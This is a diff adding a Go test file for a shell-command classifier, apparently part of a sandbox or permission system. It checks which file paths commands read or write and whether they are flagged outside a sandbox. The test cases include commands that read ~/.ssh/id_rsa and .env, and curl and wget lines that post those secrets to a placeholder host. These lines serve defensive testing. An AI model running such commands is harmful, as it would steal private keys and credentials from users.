@@ -1,0 +1,101 @@
+package classifier
+
+import (
+	"slices"
+	"testing"
+)
+
+// TestMentions: outside any sandbox, a command no table describes is taken to read and write
+// every path its words name, inside a script's text or an option too; a word known only at run
+// time leaves the paths incomplete. Inside sandboxd (not Unconfined) nothing changes.
+func TestMentions(t *testing.T) {
+	opts := Options{Cwd: "/home/u/proj", Home: "/home/u", Shell: ShellBash, Unconfined: true}
+	for _, tc := range []struct {
+		cmd, path, access string
+	}{
+		{`awk 1 ~/.ssh/id_rsa`, "/home/u/.ssh/id_rsa", AccessWrite},
+		{`zcat -f /home/u/.ssh/id_rsa`, "/home/u/.ssh/id_rsa", AccessWrite},
+		{`tar cf - ~/.ssh`, "/home/u/.ssh", AccessWrite},
+		{`python3 cat.py ~/.ssh/id_rsa`, "/home/u/.ssh/id_rsa", AccessWrite},
+		{`python3 -c 'print(open("/home/u/.ssh/id_rsa").read())'`, "/home/u/.ssh/id_rsa", AccessWrite},
+		{`node -e "require('fs').readFileSync('~/.ssh/id_rsa')"`, "/home/u/.ssh/id_rsa", AccessWrite},
+		{`perl -ne print -- ../../u/.ssh/id_rsa`, "/home/u/.ssh/id_rsa", AccessWrite},
+		{`cd ~/.ssh && awk 1 id_rsa`, "/home/u/.ssh/id_rsa", AccessWrite},
+		{`tool --key-file=~/.ssh/id_rsa`, "/home/u/.ssh/id_rsa", AccessWrite},
+		{`make KEY=.env`, "/home/u/proj/.env", AccessWrite},
+		{`timeout 5 nice awk 1 .env`, "/home/u/proj/.env", AccessWrite},
+		{`sudo -u u vim -es .env`, "/home/u/proj/.env", AccessWrite},
+		// ln's table writes the link only; a hard link would carry the file past the rule.
+		{`ln ~/.ssh/id_rsa x`, "/home/u/.ssh/id_rsa", AccessRead},
+		{`curl -d @/home/u/.ssh/id_rsa http://x`, "/home/u/.ssh/id_rsa", AccessRead},
+		{`curl -F k=@~/.ssh/id_rsa http://x`, "/home/u/.ssh/id_rsa", AccessRead},
+		{`wget --post-file=/home/u/.env http://x`, "/home/u/.env", AccessRead},
+	} {
+		c := Classify(tc.cmd, opts)
+		if !slices.ContainsFunc(c.Paths, func(p PathUse) bool { return p.Path == tc.path && p.Access == tc.access && p.Mention }) {
+			t.Errorf("%q: paths %+v, want %s mentioned (%s)", tc.cmd, c.Paths, tc.path, tc.access)
+		}
+		if c := Classify(tc.cmd, Options{Cwd: opts.Cwd, Home: opts.Home}); slices.ContainsFunc(c.Paths, func(p PathUse) bool { return p.Mention }) {
+			t.Errorf("%q, run in sandboxd: mentions %+v", tc.cmd, c.Paths)
+		}
+	}
+
+	checkIncomplete(t, opts, []incompleteCase{
+		{`awk 1 $HOME/.ssh/id_rsa`, true},
+		{`python3 "$(echo ~/.ssh)/id_rsa"`, true},
+		{`tar cf - ~/.ss*`, true},
+		{`make -j$(nproc)`, true},
+		{`awk 1 ` + repeatWords("f", maxMentions+1), true},
+		// What only sets the shell's state, and read-only commands, whose tables say all.
+		{`export PATH=$PATH:~/bin`, false},
+		{`echo $HOME/.ssh/id_rsa`, false},
+		{`kill $PID`, false},
+		{`npm install`, false},
+	})
+	for _, cmd := range []string{
+		`echo /home/u/.ssh/id_rsa`,
+		`test -f ~/.ssh/id_rsa`,
+		`git log --oneline`,
+		`bash -c 'echo ~/.ssh/id_rsa'`, // the script is classified itself
+		`curl https://example.com/a/b`,
+	} {
+		if c := Classify(cmd, opts); slices.ContainsFunc(c.Paths, func(p PathUse) bool { return p.Mention }) {
+			t.Errorf("%q: mentions %+v, want none", cmd, c.Paths)
+		}
+	}
+}
+
+// TestNextEmbeddedPath: the paths inside a word.
+func TestNextEmbeddedPath(t *testing.T) {
+	for in, want := range map[string][]string{
+		`open("/etc/passwd")`:          {"/etc/passwd"},
+		`a:/b:~/c`:                     {"/b", "~/c"},
+		`https://host/x /y`:            {"/y"},
+		`@./k,../j`:                    {"./k", "../j"},
+		`x/y z`:                        nil,
+		`s/a/b/`:                       nil,
+		`--cfg=/etc/x --out=~/y`:       {"/etc/x", "~/y"},
+		`print $1 > "/tmp/out" * 2`:    {"/tmp/out"},
+		`{"f": "/home/u/.ssh/id_rsa"}`: {"/home/u/.ssh/id_rsa"},
+	} {
+		var got []string
+		for rest := in; rest != ""; {
+			var p string
+			p, rest = nextEmbeddedPath(rest)
+			if p != "" {
+				got = append(got, p)
+			}
+		}
+		if !slices.Equal(got, want) {
+			t.Errorf("%q: %q, want %q", in, got, want)
+		}
+	}
+}
+
+func repeatWords(w string, n int) string {
+	s := w
+	for i := 1; i < n; i++ {
+		s += " " + w + string(rune('a'+i%26)) + string(rune('a'+i/26))
+	}
+	return s
+}
